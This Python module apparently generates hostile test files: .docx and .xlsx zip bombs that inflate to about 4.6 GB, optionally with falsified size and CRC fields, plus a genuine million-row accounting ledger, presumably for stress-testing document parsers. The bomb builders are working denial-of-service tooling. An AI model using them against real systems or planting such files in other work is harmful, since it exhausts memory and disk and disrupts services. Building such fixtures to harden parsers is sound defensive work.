"""Hostile .docx and .xlsx files, built fast: zip bombs and a million-row ledger.

A bomb member is a raw deflate stream made of one compressed megabyte repeated
(each piece ends with a full flush, so the pieces join into one valid stream):
a 4.6 MB file that inflates to about 4.6 GB, written in well under a second.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

_PIECE = b" " * (1 << 20)


def deflate_bomb(compressed_bytes: int) -> tuple[bytes, int]:
    """(raw deflate stream of about `compressed_bytes`, how many bytes it inflates to)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = c.compress(_PIECE) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(_PIECE) + c.flush(zlib.Z_FULL_FLUSH)
    assert piece == again  # a full flush resets the state: pieces repeat byte for byte
    n = max(1, compressed_bytes // len(piece))
    return piece * n + c.flush(), n * len(_PIECE)


def replace_member(source: Path, target: Path, member: str, deflated: bytes, declared_size: int,
                   crc: int = 0) -> Path:
    """Copy the zip `source` to `target` with `member`'s data replaced by the raw stream `deflated`.

    The directory declares `declared_size` (the truth, or a lie) and `crc`.
    """
    with zipfile.ZipFile(source) as zf:
        members = [(info.filename, zf.read(info)) for info in zf.infolist() if info.filename != member]
    out = bytearray()
    central = bytearray()

    def add(name: str, data: bytes, method: int, size: int, crc32: int) -> None:
        raw_name = name.encode("utf-8")
        offset = len(out)
        out.extend(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc32, len(data), size,
                               len(raw_name), 0))
        out.extend(raw_name)
        out.extend(data)
        central.extend(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc32, len(data), size,
                                   len(raw_name), 0, 0, 0, 0, 0, offset))
        central.extend(raw_name)

    for name, data in members:
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        add(name, c.compress(data) + c.flush(), zipfile.ZIP_DEFLATED, len(data), zlib.crc32(data))
    add(member, deflated, zipfile.ZIP_DEFLATED, declared_size, crc)
    count = len(members) + 1
    out.extend(central)
    out.extend(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central),
                           len(out) - len(central), 0))
    target.write_bytes(bytes(out))
    return target


def docx_bomb(path: Path, compressed_bytes: int = int(4.6 * 1024 * 1024), lie: bool = False) -> Path:
    """A .docx of about `compressed_bytes` whose word/document.xml inflates about 1000-fold.

    `lie`: the directory declares 100 KB for it (zipfile cuts there; the inflating does not).
    """
    import docx

    plain = path.with_name("plain-" + path.name)
    document = docx.Document()
    document.add_paragraph("第一条 为了加强村民自治。")
    document.save(str(plain))
    stream, size = deflate_bomb(compressed_bytes)
    return replace_member(plain, path, "word/document.xml", stream, 100_000 if lie else min(size, 2**32 - 1))


def xlsx_with_member_bomb(path: Path, member: str = "xl/sharedStrings.xml", lie: bool = False) -> Path:
    """A ledger-looking .xlsx whose shared strings inflate to about 4.6 GB."""
    from openpyxl import Workbook

    plain = path.with_name("plain-" + path.name)
    wb = Workbook()
    wb.active.append(["日期", "凭证号", "摘要", "收入", "支出"])
    wb.active.append(["2026-10-03", "记-001", "收到转移支付", 12000, None])
    wb.save(plain)
    stream, size = deflate_bomb(int(4.6 * 1024 * 1024))
    return replace_member(plain, path, member, stream, 100_000 if lie else min(size, 2**32 - 1))


def million_row_ledger(path: Path, rows: int = 1_000_000, dimension: bool = True) -> Path:
    """A genuine .xlsx ledger of `rows` lines (written as sheet XML directly: seconds, not minutes).

    The sheet declares its size (`<dimension>`), as Excel, WPS and openpyxl write it; with
    `dimension=False` it does not (openpyxl then reads the whole sheet to size it).
    """
    from openpyxl import Workbook

    plain = path.with_name("plain-" + path.name)
    wb = Workbook()
    wb.active.append(["x"])
    wb.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info))
                continue
            with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
                sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                            b'spreadsheetml/2006/main">' + (b'<dimension ref="A1:E%d"/>' % (rows + 1) if dimension else b"")
                            + b"<sheetData>")
                header = "".join(f'<c t="inlineStr"><is><t>{w}</t></is></c>' for w in ("日期", "凭证号", "摘要", "收入", "支出"))
                sheet.write(f"<row r=\"1\">{header}</row>".encode())
                line = ('<c t="inlineStr"><is><t>2026-10-03</t></is></c><c t="inlineStr"><is><t>记-1</t></is></c>'
                        '<c t="inlineStr"><is><t>村道维修</t></is></c><c><v>12</v></c><c/></row>').encode()
                chunk = bytearray()
                for r in range(2, rows + 2):
                    chunk += b'<row r="%d">' % r + line
                    if len(chunk) > 1 << 20:
                        sheet.write(bytes(chunk))
                        chunk.clear()
                sheet.write(bytes(chunk) + b"</sheetData></worksheet>")
    return path
